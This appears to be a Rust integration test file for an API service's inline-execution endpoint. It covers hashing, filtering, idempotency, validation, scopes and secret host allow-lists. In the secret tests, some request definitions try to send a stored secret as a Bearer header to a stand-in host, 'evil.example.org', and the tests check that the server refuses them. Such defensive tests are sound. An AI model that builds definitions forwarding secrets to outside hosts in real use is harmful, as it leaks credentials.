//! `POST /executions` (issue #52, part A) over the real server and its embedded runner: an inline definition runs
//! without any stored flow, its execution records the SHA-256 of the definition's text as sent and where it came
//! from, and is read, streamed, listed (filtered by source, flow, trigger and status), cancelled and replayed by
//! its id alone; bad bodies are refused naming the field, scopes hold, another organization's executions answer
//! 404, and secrets reach an inline definition only through a host list that names the target.

use hookflow_shared::api::resources::PutSecret;
use hookflow_tests::TestApp;
use hookflow_tests::exec::scoped;
use hookflow_tests::target::Target;
use reqwest::Method;
use serde_json::{Value, json};
use sha2::{Digest as _, Sha256};
use std::time::Duration;

/// A server whose embedded runner may reach this machine's test targets.
async fn app() -> TestApp {
    TestApp::spawn_with_embedded_runner_of(2, 1.0, Duration::from_secs(60), |settings| {
        settings.allow_private_targets = true;
    })
    .await
}

/// Sends `body` (JSON text, sent byte for byte) to `POST /executions` as the admin.
async fn run_text(app: &TestApp, body: &str) -> hookflow_tests::app::Reply {
    let response = app
        .api()
        .request(Method::POST, "/executions")
        .header("content-type", "application/json")
        .body(body.to_owned())
        .send()
        .await
        .expect("send");
    hookflow_tests::app::read(response).await
}

/// Polls `GET /executions/{id}` until it has ended (at most 30 s).
async fn finished(app: &TestApp, id: &str) -> Value {
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    loop {
        let current = app.admin(Method::GET, &format!("/executions/{id}"), None).await;
        assert_eq!(current.status, 200, "{}", current.text);
        if !matches!(current.body["status"].as_str(), Some("queued" | "running")) {
            return current.body;
        }
        assert!(tokio::time::Instant::now() < deadline, "never finished: {}", current.text);
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
}

fn ids(list: &Value) -> Vec<&str> {
    list["items"].as_array().expect("items").iter().map(|e| e["id"].as_str().expect("id")).collect()
}

#[tokio::test]
async fn an_inline_definition_runs_without_any_flow_and_is_read_by_its_id() {
    let app = app().await;
    let target = Target::spawn().await;
    // The definition's text as a file holds it, spacing and key order its own.
    let definition = format!(
        r#"{{ "nodes": [ {{"kind": "request", "id": "orders",
              "request": {{"method": "GET", "url": "{}/orders?from={{{{who}}}}"}},
              "extractors": [{{"name": "count", "kind": "jsonPath", "expression": "$.count"}}],
              "assertions": [{{"source": "count", "operator": "equals", "expected": 2}}]}} ] }}"#,
        target.base
    );
    let body = format!(
        r#"{{"definition": {definition}, "name": "checkout file", "variables": {{"who": "ci"}},
            "source": {{"path": "flows/checkout.json", "git_commit": "abc123", "git_ref": "main"}}}}"#
    );
    let created = run_text(&app, &body).await;
    assert_eq!(created.status, 201, "{}", created.text);
    let execution = &created.body;
    let id = execution["id"].as_str().expect("id");
    assert!(execution["flow_id"].is_null(), "{execution}");
    let sha = hex::encode(Sha256::digest(definition.as_bytes()));
    assert_eq!(
        execution["source"],
        json!({"kind": "inline", "path": "flows/checkout.json", "definition_sha256": sha,
               "git_commit": "abc123", "git_ref": "main"})
    );
    assert_eq!(execution["trigger"], "api");

    let done = finished(&app, id).await;
    assert_eq!(done["status"], "succeeded", "{done}");
    let nodes = app.admin(Method::GET, &format!("/executions/{id}/nodes"), None).await;
    assert_eq!(nodes.status, 200);
    let url = nodes.body["items"][0]["request"]["url"].as_str().expect("the request sent");
    assert_eq!(url, format!("{}/orders?from=ci", target.base), "the file's request, its variable resolved");
    assert_eq!(target.hits(), 1);

    let stream = app.admin(Method::GET, &format!("/executions/{id}/stream"), None).await;
    assert_eq!(stream.status, 200);
    assert!(stream.text.contains("execution.completed"), "{}", stream.text);
    let captures = app.admin(Method::GET, &format!("/executions/{id}/captures"), None).await;
    assert_eq!((captures.status.as_u16(), captures.body["items"].as_array().map(Vec::len)), (200, Some(0)));
    let cancel = app.admin(Method::POST, &format!("/executions/{id}/cancel"), None).await;
    cancel.assert_refused(409, "conflict", "already finished");

    // No flow was made; the list tells inline runs from stored ones.
    let flows = app.admin(Method::GET, "/flows", None).await;
    assert_eq!(flows.body["items"].as_array().map(Vec::len), Some(0));
    let flow = app.delay_flow("stored").await;
    let stored = app.launch_draft(&flow).await;
    finished(&app, &stored).await;
    let all = app.admin(Method::GET, "/executions", None).await;
    assert_eq!(ids(&all.body), [stored.as_str(), id], "newest first");
    assert_eq!(
        all.body["items"][0]["source"],
        json!({"kind": "stored", "path": null, "definition_sha256": null,
        "git_commit": null, "git_ref": null})
    );
    let inline = app.admin(Method::GET, "/executions?source=inline", None).await;
    assert_eq!(ids(&inline.body), [id]);
    let of_flow = app.admin(Method::GET, &format!("/executions?source=stored&flow_id={flow}"), None).await;
    assert_eq!(ids(&of_flow.body), [stored.as_str()]);
    let by_trigger = app.admin(Method::GET, "/executions?trigger=cli", None).await;
    assert!(ids(&by_trigger.body).is_empty());
    let by_status = app.admin(Method::GET, "/executions?status=succeeded&limit=1", None).await;
    assert_eq!(ids(&by_status.body), [stored.as_str()]);
    let cursor = by_status.body["next_cursor"].as_str().expect("a second page");
    let next = app.admin(Method::GET, &format!("/executions?status=succeeded&limit=1&cursor={cursor}"), None).await;
    assert_eq!(ids(&next.body), [id]);
    assert!(next.body["next_cursor"].is_null());
    // The flow's own routes do not serve an inline execution.
    let through_flow = app.admin(Method::GET, &format!("/flows/{flow}/executions/{id}"), None).await;
    assert_eq!(through_flow.status, 404);
}

#[tokio::test]
async fn queued_inline_runs_cancel_and_replay_under_their_idempotency_key() {
    let app = TestApp::spawn_for_execution().await;
    let body = json!({"definition": {"nodes": [{"id": "wait", "kind": "delay", "delay_ms": 1}]},
                      "runner_labels": ["nowhere"], "environment": {"key": "staging", "variables": {"a": "1"}}});
    let send = |key: &'static str| {
        let request = app.api().request(Method::POST, "/executions").header("idempotency-key", key).json(&body);
        async move { hookflow_tests::app::read(request.send().await.expect("send")).await }
    };
    let first = send("k1").await;
    assert_eq!(first.status, 201, "{}", first.text);
    assert_eq!((first.body["environment"].as_str(), first.body["source"]["path"].as_str()), (Some("staging"), None));
    let again = send("k1").await;
    assert_eq!(again.status, 200);
    assert_eq!(again.body["id"], first.body["id"], "a retry under the same key answers the same execution");
    let id = first.body["id"].as_str().expect("id");
    let cancelled = app.admin(Method::POST, &format!("/executions/{id}/cancel"), None).await;
    assert_eq!(cancelled.status, 202, "{}", cancelled.text);
    assert_eq!(cancelled.body["status"], "cancelled");
}

#[tokio::test]
async fn bad_inline_bodies_are_refused_naming_the_field() {
    let app = TestApp::spawn().await;
    let good = json!({"nodes": [{"id": "wait", "kind": "delay", "delay_ms": 1}]});
    let cases = [
        (json!({}), "definition"),
        (json!({"definition": {"nodes": [{"kind": "delay", "delay_ms": 1}]}}), "definition"),
        (json!({"definition": good, "surprise": 1}), "surprise"),
        (json!({"definition": good, "source": {"path": ""}}), "source.path"),
        (json!({"definition": good, "source": {"path": "x", "git_ref": "a\u{7}b"}}), "source.git_ref"),
        (json!({"definition": good, "environment": {"key": "no spaces"}}), "environment.key"),
        (
            json!({"definition": good, "environment": {"key": "e", "variables": {"execution.id": "x"}}}),
            "environment.variables",
        ),
        (json!({"definition": good, "variables": {"execution.id": "x"}}), "variables.execution.id"),
        (json!({"definition": good, "mode": "later"}), "mode"),
        (json!({"definition": good, "name": " "}), "name"),
    ];
    for (body, field) in cases {
        let reply = app.admin(Method::POST, "/executions", Some(body.clone())).await;
        reply.assert_refused(400, "invalid_request", field);
    }
    let not_json = run_text(&app, "{\"definition\": ").await;
    assert_eq!(not_json.status, 400);
    for query in ["status=later", "source=both", "trigger=x", "flow_id=nope", "limit=0", "cursor=zz"] {
        let reply = app.admin(Method::GET, &format!("/executions?{query}"), None).await;
        assert_eq!(reply.status, 400, "{query}: {}", reply.text);
    }
    let executions: i64 = sqlx::query_scalar("SELECT count(*) FROM executions").fetch_one(&app.pool).await.expect("n");
    assert_eq!(executions, 0, "nothing refused was queued");
}

#[tokio::test]
async fn scopes_hold_and_another_organizations_executions_answer_404() {
    let app = TestApp::spawn_for_execution().await;
    let body = json!({"definition": {"nodes": [{"id": "wait", "kind": "delay", "delay_ms": 1}]}});
    let readers = scoped(&app, app.admin.org, &["flows:read"]).await;
    let refused = app.call(Method::POST, "/executions", Some(&readers), Some(body.clone())).await;
    refused.assert_refused(403, "insufficient_scope", "flows:execute");
    let executors = scoped(&app, app.admin.org, &["flows:execute"]).await;
    let created = app.call(Method::POST, "/executions", Some(&executors), Some(body.clone())).await;
    assert_eq!(created.status, 201, "{}", created.text);
    let id = created.body["id"].as_str().expect("id");
    let list = app.call(Method::GET, "/executions", Some(&executors), None).await;
    list.assert_refused(403, "insufficient_scope", "flows:read");
    let read = app.call(Method::GET, &format!("/executions/{id}"), Some(&executors), None).await;
    read.assert_refused(403, "insufficient_scope", "flows:read");
    let cancel = app.call(Method::POST, &format!("/executions/{id}/cancel"), Some(&readers), None).await;
    cancel.assert_refused(403, "insufficient_scope", "flows:execute");

    let other = app.new_org("other").await;
    for (method, path) in [
        (Method::GET, format!("/executions/{id}")),
        (Method::GET, format!("/executions/{id}/nodes")),
        (Method::GET, format!("/executions/{id}/stream")),
        (Method::GET, format!("/executions/{id}/captures")),
        (Method::POST, format!("/executions/{id}/cancel")),
    ] {
        let reply = app.call(method, &path, Some(&other), None).await;
        assert_eq!(reply.status, 404, "{path}: {}", reply.text);
    }
    let theirs = app.call(Method::GET, "/executions", Some(&other), None).await;
    assert_eq!(theirs.body["items"].as_array().map(Vec::len), Some(0));
    let status = app.admin(Method::GET, &format!("/executions/{id}"), None).await;
    assert_eq!(status.body["status"], "queued", "nothing another organization did reached it");
}

#[tokio::test]
async fn an_inline_definition_uses_a_secret_only_where_its_hosts_allow() {
    const VALUE: &str = "inline-s3cret-value";
    let app = TestApp::spawn_for_execution().await;
    for (name, hosts) in [("OPEN", vec![]), ("NARROW", vec!["api.example.com".to_owned()])] {
        let secret = PutSecret { value: VALUE.parse().expect("a value"), allowed_hosts: hosts, runners_only: false };
        app.api().secrets().put(name, &secret).await.expect("put the secret");
    }
    let sending = |url: &str, secret: &str| {
        json!({"definition": {"nodes": [{"id": "call", "kind": "request",
            "request": {"method": "GET", "url": url, "headers": {"authorization": format!("Bearer {{{{secret.{secret}}}}}")}}}]}})
    };
    let cases = [
        (sending("https://evil.example.org/x", "NARROW"), "NARROW", "evil.example.org"),
        (sending("https://api.example.com/x", "OPEN"), "OPEN", "allowed_hosts"),
        (sending("https://api.example.com/x", "GHOST"), "GHOST", "allowed_hosts"),
        (
            json!({"definition": {"nodes": [{"id": "call", "kind": "request",
                     "request": {"method": "GET", "url": "https://api.example.com/{{token}}"}}]},
                   "environment": {"key": "e", "variables": {"token": "{{secret.OPEN}}"}}}),
            "OPEN",
            "allowed_hosts",
        ),
    ];
    for (body, secret, mentioning) in cases {
        let reply = app.admin(Method::POST, "/executions", Some(body)).await;
        reply.assert_refused(403, "insufficient_scope", secret);
        assert!(reply.text.contains(mentioning), "{}", reply.text);
        assert!(!reply.text.contains(VALUE), "the value leaked: {}", reply.text);
    }
    // Where the host list names the host, the secret may be used; only by whoever could store the definition.
    let allowed = sending("https://api.example.com/x", "NARROW");
    let executors = scoped(&app, app.admin.org, &["flows:execute"]).await;
    let refused = app.call(Method::POST, "/executions", Some(&executors), Some(allowed.clone())).await;
    refused.assert_refused(403, "insufficient_scope", "flows:write");
    let created = app.admin(Method::POST, "/executions", Some(allowed)).await;
    assert_eq!(created.status, 201, "{}", created.text);
    assert!(!created.text.contains(VALUE));
    let executions: i64 = sqlx::query_scalar("SELECT count(*) FROM executions").fetch_one(&app.pool).await.expect("n");
    assert_eq!(executions, 1, "only the allowed definition was queued");
}

#[tokio::test]
async fn an_inline_definition_with_rows_runs_once_per_row_as_a_batch_with_its_priority() {
    let app = app().await;
    let target = Target::spawn().await;
    let definition = json!({"nodes": [{"kind": "request", "id": "probe",
        "request": {"method": "GET", "url": format!("{}/status/{{{{code}}}}", target.base)},
        "extractors": [{"name": "status", "kind": "statusCode"}],
        "assertions": [{"source": "status", "operator": "equals", "expected": 200}]}]});
    let rows = json!([{"code": "200"}, {"code": "500"}, {"code": "200"}]);

    // Rows are queued for runners: an ephemeral run with rows is refused naming `mode`.
    let body = json!({"definition": definition, "rows": rows, "mode": "ephemeral"});
    let refused = app.admin(Method::POST, "/executions", Some(body)).await;
    assert_eq!(refused.status, 400, "{}", refused.text);
    assert!(refused.text.contains("`mode`"), "{}", refused.text);
    let body = json!({"definition": definition, "rows": [{"code": 200}]});
    let refused = app.admin(Method::POST, "/executions", Some(body)).await;
    assert_eq!(refused.status, 400, "{}", refused.text);
    assert!(refused.text.contains("rows[0].code"), "{}", refused.text);

    let body = json!({"definition": definition, "rows": rows, "priority": 1,
                      "source": {"path": "flows/probe.json"}});
    let launched = app.admin(Method::POST, "/executions", Some(body)).await;
    assert_eq!(launched.status, 201, "{}", launched.text);
    assert_eq!(launched.body["executions"], 3, "{}", launched.text);
    let batch_id = launched.body["batch_id"].as_str().expect("batch_id").to_owned();
    let deadline = tokio::time::Instant::now() + Duration::from_secs(30);
    let batch = loop {
        let batch = app.admin(Method::GET, &format!("/batches/{batch_id}"), None).await;
        assert_eq!(batch.status, 200, "{}", batch.text);
        if !batch.body["finished_at"].is_null() {
            break batch.body;
        }
        assert!(tokio::time::Instant::now() < deadline, "the batch never finished: {}", batch.text);
        tokio::time::sleep(Duration::from_millis(100)).await;
    };
    assert!(batch["flow_id"].is_null(), "{batch}");
    assert_eq!(
        (batch["total"].as_i64(), batch["succeeded"].as_i64(), batch["failed"].as_i64()),
        (Some(3), Some(2), Some(1))
    );

    // The organization's executions filtered by the batch: each row inline, with its file, row index and priority.
    let listed = app.admin(Method::GET, &format!("/executions?batch_id={batch_id}"), None).await;
    assert_eq!(listed.status, 200, "{}", listed.text);
    let items = listed.body["items"].as_array().expect("items");
    let mut iterations: Vec<i64> = items.iter().map(|e| e["iteration"].as_i64().expect("iteration")).collect();
    iterations.sort_unstable();
    assert_eq!(iterations, [0, 1, 2], "{}", listed.text);
    for execution in items {
        assert!(execution["flow_id"].is_null(), "{execution}");
        assert_eq!(execution["source"]["kind"], "inline", "{execution}");
        assert_eq!(execution["source"]["path"], "flows/probe.json", "{execution}");
        assert_eq!(execution["priority"], 1, "{execution}");
        let expected = if execution["iteration"] == 1 { "failed" } else { "succeeded" };
        assert_eq!(execution["status"], expected, "{execution}");
    }
    let other = app.admin(Method::GET, &format!("/executions?batch_id={}", uuid::Uuid::now_v7()), None).await;
    assert_eq!(other.body["items"], json!([]), "{}", other.text);

    // The failed row runs again alone, still the file's.
    let rerun = app.admin(Method::POST, &format!("/batches/{batch_id}/rerun"), Some(json!({"only": "failed"}))).await;
    assert_eq!(rerun.status, 201, "{}", rerun.text);
    assert_eq!(rerun.body["executions"], 1, "{}", rerun.text);
    let again = rerun.body["batch_id"].as_str().expect("batch_id");
    let listed = app.admin(Method::GET, &format!("/executions?batch_id={again}"), None).await;
    let items = listed.body["items"].as_array().expect("items");
    assert_eq!(items.len(), 1, "{}", listed.text);
    assert_eq!(items[0]["iteration"], 1, "{}", listed.text);
    assert_eq!(items[0]["source"]["path"], "flows/probe.json", "{}", listed.text);
    assert_eq!(items[0]["priority"], 1, "{}", listed.text);
}

/// Regression (review of #52): the secret check read the definition as sent, so a secret named by a collection
/// request the definition refers to (`request_ref`) skipped it: a `flows:execute` key could run it ephemerally and
/// be handed the secret, or send it to a host the secret's list leaves out. Secrets are now checked in what runs.
#[tokio::test]
async fn a_secret_behind_a_collection_request_is_checked_like_one_written_inline() {
    const VALUE: &str = "behind-a-ref-s3cret";
    let app = TestApp::spawn_for_execution().await;
    let secret = PutSecret {
        value: VALUE.parse().expect("a value"),
        allowed_hosts: vec!["api.example.com".to_owned()],
        runners_only: false,
    };
    app.api().secrets().put("NARROW", &secret).await.expect("put the secret");
    let collection = app.admin(Method::POST, "/collections", Some(json!({"name": "apis"}))).await;
    assert_eq!(collection.status, 201, "{}", collection.text);
    let collection = collection.body["id"].as_str().expect("id").to_owned();
    let mut ids = Vec::new();
    for url in ["https://api.example.com/me", "https://evil.example.org/collect"] {
        let body = json!({"name": url, "method": "GET", "url": url,
                          "headers": {"authorization": "Bearer {{secret.NARROW}}"}});
        let added = app.admin(Method::POST, &format!("/collections/{collection}/requests"), Some(body)).await;
        assert_eq!(added.status, 201, "{}", added.text);
        ids.push(added.body["id"].as_str().expect("id").to_owned());
    }
    let referring = |request: &str, mode: &str| {
        json!({"mode": mode, "definition": {"nodes": [{"id": "call", "kind": "request",
            "request_ref": {"collection_id": collection, "request_id": request}}]}})
    };
    // Without flows:write, even an ephemeral run of the allowed host is refused: the claim would hand the secret over.
    let executors = scoped(&app, app.admin.org, &["flows:execute"]).await;
    let refused = app.call(Method::POST, "/executions", Some(&executors), Some(referring(&ids[0], "ephemeral"))).await;
    refused.assert_refused(403, "insufficient_scope", "flows:write");
    assert!(!refused.text.contains(VALUE), "{}", refused.text);
    // With it, a host the secret's list leaves out is refused, naming the secret and the host.
    let elsewhere = app.admin(Method::POST, "/executions", Some(referring(&ids[1], "queued"))).await;
    elsewhere.assert_refused(403, "insufficient_scope", "NARROW");
    assert!(elsewhere.text.contains("evil.example.org"), "{}", elsewhere.text);
    let allowed = app.admin(Method::POST, "/executions", Some(referring(&ids[0], "queued"))).await;
    assert_eq!(allowed.status, 201, "{}", allowed.text);
    assert!(!allowed.text.contains(VALUE), "{}", allowed.text);
}
